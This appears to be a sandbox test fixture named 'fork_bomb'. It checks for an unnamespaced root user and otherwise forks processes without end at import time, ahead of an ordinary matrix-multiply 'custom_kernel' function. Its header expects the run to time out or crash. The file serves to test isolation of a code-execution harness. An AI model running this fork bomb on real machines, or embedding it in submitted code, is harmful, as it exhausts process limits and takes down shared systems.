# id: S09 fork_bomb
# expect: timed_out crashed
# long: it fills the box with processes until its budget is over
# level: weak
# budgets: build=2
# alone: where walls are low, it strikes all that its user runs
# never_prints: GAINED
# Forks without end, and never as the real root, whom no limit on processes holds.
import os

import torch

namespaced = open("/proc/self/uid_map").read().split() != ["0", "0", "4294967295"]
if os.getuid() == 0 and not namespaced:
    print("GAINED root", flush=True)
else:
    while True:
        try:
            os.fork()
        except OSError:
            pass


def custom_kernel(data):
    left, right, out = data
    return torch.matmul(left, right, out=out)
